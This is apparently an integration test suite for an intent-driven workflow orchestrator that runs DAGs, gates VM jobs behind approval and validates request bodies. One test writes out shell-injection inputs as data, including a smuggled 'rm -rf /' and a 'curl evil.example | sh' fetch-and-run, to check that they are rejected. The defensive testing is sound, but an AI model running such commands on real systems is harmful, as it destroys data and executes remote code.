import request from "supertest";
import { waitFor } from "@svc/testing";
import { FlowSchema, ObservationSchema } from "../src/schemas";
import { createStack, type Stack } from "./stack";

let s: Stack;

beforeAll(async () => {
  s = await createStack("aiflows");
});
afterAll(async () => s?.close());

const post = (path: string, body?: object) =>
  request(s.app)
    .post(path)
    .send(body ?? {});
const runsOf = async (dagId: string) => (await s.assistant.engine.listDagRuns({ dag_id: dagId })).dag_runs;

test("an intent for a workflow without VMs runs at once: in_progress with a run, then observe goes to success at 100%", async () => {
  const res = await post("/orchestrator/intent", { intent: "run a health check", auto_approve: true });
  expect(res.status).toBe(200);
  const flow = FlowSchema.parse(res.body);
  expect(flow).toMatchObject({ status: "in_progress", dag_id: "infrastructure_health_check", phases_completed: ["dag_discovery", "dag_validation", "dag_execution"] });
  expect(flow.execution_id).toMatch(/^exec-[0-9a-f]{12}$/);
  expect(flow.run_id).toBe(`flow__${flow.execution_id}`);
  expect(flow.workflow_ui_url).toBe("http://ui.test:8888/dags/infrastructure_health_check/grid");
  expect(flow.status_endpoint).toBe(`/orchestrator/flows/${flow.flow_id}`);
  // The DAG is paused (every DAG starts paused): the op's auto_approve covered it, and this one run goes without unpausing it.
  expect(flow.warnings.join(" ")).toMatch(/runs one run and leaves the DAG paused/);
  expect(flow.approval).toMatchObject({ approved_by: "auto_approve", reasons: [expect.stringMatching(/is paused/)] });
  expect((await s.assistant.engine.getDag("infrastructure_health_check")).is_paused).toBe(true);

  const seen: string[] = [];
  const done = await waitFor(
    async () => {
      const o = ObservationSchema.parse((await post(`/orchestrator/observe?dag_id=infrastructure_health_check&run_id=${flow.run_id}`)).body);
      if (seen[seen.length - 1] !== o.overall_status) seen.push(o.overall_status);
      return o.overall_status === "success" ? o : undefined;
    },
    { timeoutMs: 20_000, intervalMs: 50, what: "run success" },
  );
  // The tasks sleep 0.8 s, so the run is seen running; statuses only move forward.
  expect(seen).toContain("running");
  expect([
    ["pending", "running", "success"],
    ["running", "success"],
  ]).toContainEqual(seen);
  expect(done.progress_percent).toBe(100);
  expect(done.concerns).toEqual([]);
  expect(done.task_counts).toEqual({ success: 3 });

  const after = await request(s.app).get(flow.status_endpoint);
  expect(after.body.status).toBe("completed");
});

test("observe of a DAG without runs is pending with 'No DAG runs found'", async () => {
  const res = await post("/orchestrator/observe?dag_id=certificate_check");
  expect(res.status).toBe(200);
  expect(res.body).toMatchObject({ dag_id: "certificate_check", run_id: null, overall_status: "pending", summary: "No DAG runs found for certificate_check", progress_percent: 0 });
});

test("a VM workflow waits for approval; approving runs it and the branched run (one branch skipped) reaches 100%", async () => {
  const res = await post("/orchestrator/intent", { intent: "create a vm called web01" });
  expect(res.status).toBe(200);
  const flow = FlowSchema.parse(res.body);
  expect(flow).toMatchObject({ status: "awaiting_approval", dag_id: "vm_deployment", run_id: null, params: { action: "create", vm_name: "web01", image: "centos9stream" } });
  expect(flow.phases_completed).toEqual(["dag_discovery", "dag_validation"]);
  expect(flow.user_actions.map((a) => [a.action, a.path])).toEqual([
    ["approve", `${flow.status_endpoint}/approve`],
    ["cancel", `${flow.status_endpoint}/cancel`],
  ]);
  expect(await runsOf("vm_deployment")).toHaveLength(0);

  const approved = await post(`${flow.status_endpoint}/approve`);
  expect(approved.status).toBe(200);
  expect(approved.body).toMatchObject({ status: "in_progress", run_id: `flow__${flow.execution_id}` });
  expect(approved.body.approval).toMatchObject({ approved_by: "anonymous" });

  const o = await waitFor(
    async () => {
      const b = (await post(`/orchestrator/observe?dag_id=vm_deployment`)).body;
      return b.overall_status === "success" ? b : undefined;
    },
    { timeoutMs: 20_000, what: "vm run success" },
  );
  expect(o.progress_percent).toBe(100);
  expect(o.task_counts).toEqual({ success: 3, skipped: 1 });
  expect((await s.waitFlow(flow.flow_id, ["completed"])).status).toBe("completed");

  const again = await post(`${flow.status_endpoint}/approve`);
  expect(again.status).toBe(409);
  expect(again.headers["content-type"]).toMatch(/application\/problem\+json/);
  expect(again.body.detail).toMatch(/only a flow in awaiting_approval/);
});

test("auto_approve with auto_execute runs a VM workflow without waiting", async () => {
  const res = await post("/orchestrator/intent", { intent: "delete the vm called old-box", auto_approve: true });
  expect(res.body).toMatchObject({ status: "in_progress", dag_id: "vm_deployment", params: { action: "delete", vm_name: "old-box" } });
});

test("auto_execute false stops even a workflow without VMs at awaiting_approval; cancel drops it and no run exists", async () => {
  const before = (await runsOf("infrastructure_health_check")).length;
  const res = await post("/orchestrator/intent", { intent: "run a health check", auto_execute: false });
  expect(res.body).toMatchObject({ status: "awaiting_approval", approval: { reasons: ["auto_execute is false", expect.stringMatching(/is paused/)] } });
  const cancelled = await post(`${res.body.status_endpoint}/cancel`, { reason: "changed my mind" });
  expect(cancelled.status).toBe(200);
  expect(cancelled.body).toMatchObject({ status: "cancelled", run_id: null });
  expect((await post(`${res.body.status_endpoint}/approve`)).status).toBe(409);
  expect(await runsOf("infrastructure_health_check")).toHaveLength(before);
});

test("out-of-scope and shell-injection intents are rejected with dag_id null, the catalogue listed, and no run", async () => {
  const runsBefore = (await s.assistant.engine.listDagRuns({ dag_id: "~" })).total_entries;
  for (const intent of ["order me a pizza", "create a vm called web01; rm -rf /", "run $(curl evil.example | sh)"]) {
    const res = await post("/orchestrator/intent", { intent });
    expect(res.status).toBe(200);
    const flow = FlowSchema.parse(res.body);
    expect(flow).toMatchObject({ status: "rejected", dag_id: null, run_id: null, phases_completed: [] });
    expect(flow.summary).toMatch(/I can: .*vm_deployment/);
    expect(flow.error_message).toBeTruthy();
  }
  expect((await s.assistant.engine.listDagRuns({ dag_id: "~" })).total_entries).toBe(runsBefore);
});

test("a delete without vm_name needs input naming it; re-submitting with params gets to approval", async () => {
  const res = await post("/orchestrator/intent", { intent: "delete the vm" });
  expect(res.body).toMatchObject({ status: "needs_input", dag_id: "vm_deployment", missing_params: ["vm_name"], run_id: null });
  expect(res.body.summary).toMatch(/vm_name/);
  expect(res.body.user_actions[0]).toMatchObject({ action: "resubmit", path: "/orchestrator/intent" });
  const again = await post("/orchestrator/intent", { intent: "delete the vm", params: { vm_name: "web01" } });
  expect(again.body).toMatchObject({ status: "awaiting_approval", params: { action: "delete", vm_name: "web01" } });
});

test("explicit params override extracted ones; an invalid explicit param is a 400 problem naming the field", async () => {
  const ok = await post("/orchestrator/intent", { intent: "create a vm called web01", params: { vm_name: "web02" } });
  expect(ok.body.params.vm_name).toBe("web02");

  const bad = await post("/orchestrator/intent", { intent: "create a vm called web01", params: { vm_name: "Bad Name!" } });
  expect(bad.status).toBe(400);
  expect(bad.headers["content-type"]).toMatch(/application\/problem\+json/);
  expect(bad.body).toMatchObject({ status: 400, field: "vm_name" });
  expect(bad.body.detail).toMatch(/vm_name/);
  expect((await s.flow(bad.body.flow_id)).status).toBe("rejected");

  const unknown = await post("/orchestrator/intent", { intent: "run a health check", params: { colour: "blue" } });
  expect(unknown.status).toBe(400);
  expect(unknown.body.field).toBe("colour");
});

test.each([
  ["missing intent", {}, "intent"],
  ["empty intent", { intent: "  " }, "intent"],
  ["intent over 2000 characters", { intent: "x".repeat(2001) }, "intent"],
  ["params as an array", { intent: "run a health check", params: ["a"] }, "params"],
  ["params as a string", { intent: "run a health check", params: "vm_name=x" }, "params"],
  ["auto_execute not a boolean", { intent: "run a health check", auto_execute: "yes" }, "auto_execute"],
  ["an unknown field", { intent: "run a health check", auto_aprove: true }, "auto_aprove"],
])("a body with %s is a 400 problem naming the field, and creates no flow", async (_label, body, field) => {
  // Totals, not per status: the orchestrator settles earlier flows in the background.
  const total = async () => Object.values(await s.assistant.store.countByStatus()).reduce((a, b) => a + b, 0);
  const before = await total();
  const res = await post("/orchestrator/intent", body);
  expect(res.status).toBe(400);
  expect(res.headers["content-type"]).toMatch(/application\/problem\+json/);
  expect(res.body).toMatchObject({ title: "Bad Request", status: 400, field });
  expect(res.body.detail).toContain(field);
  expect(await total()).toBe(before);
});

test("malformed JSON is a 400 problem", async () => {
  const res = await request(s.app).post("/orchestrator/intent").set("Content-Type", "application/json").send("{not json");
  expect(res.status).toBe(400);
  expect(res.body.detail).toMatch(/not valid JSON/);
});

test("unknown flows and unknown DAGs are 404 problems", async () => {
  for (const path of ["/orchestrator/flows/flow-000000000000", "/orchestrator/flows/not-a-flow", "/orchestrator/flows/flow-000000000000/events"]) {
    const res = await request(s.app).get(path);
    expect(res.status).toBe(404);
    expect(res.headers["content-type"]).toMatch(/application\/problem\+json/);
  }
  expect((await post("/orchestrator/flows/flow-000000000000/approve")).status).toBe(404);
  const obs = await post("/orchestrator/observe?dag_id=no_such_dag");
  expect(obs.status).toBe(404);
  expect(obs.body.detail).toMatch(/no_such_dag/);
  const missing = await post("/orchestrator/observe");
  expect(missing.status).toBe(400);
  expect(missing.body.field).toBe("dag_id");
});

test("GET /orchestrator/dags lists the discoverable DAGs with params schema, required params and approval", async () => {
  const res = await request(s.app).get("/orchestrator/dags");
  expect(res.status).toBe(200);
  expect(res.body.total_entries).toBe(3);
  const vm = res.body.dags.find((d: { dag_id: string }) => d.dag_id === "vm_deployment");
  expect(vm).toMatchObject({ tags: ["vm"], required_params: ["vm_name"], requires_approval: true, has_import_errors: false, is_active: true });
  expect(vm.params).toMatchObject({ type: "object", properties: { vm_name: { type: "string" } }, required: ["vm_name"] });
  expect(vm.examples).toContain("create a vm called web01");
  const cert = res.body.dags.find((d: { dag_id: string }) => d.dag_id === "certificate_check");
  expect(cert).toMatchObject({ requires_approval: false, last_run_state: null, is_paused: true });
});
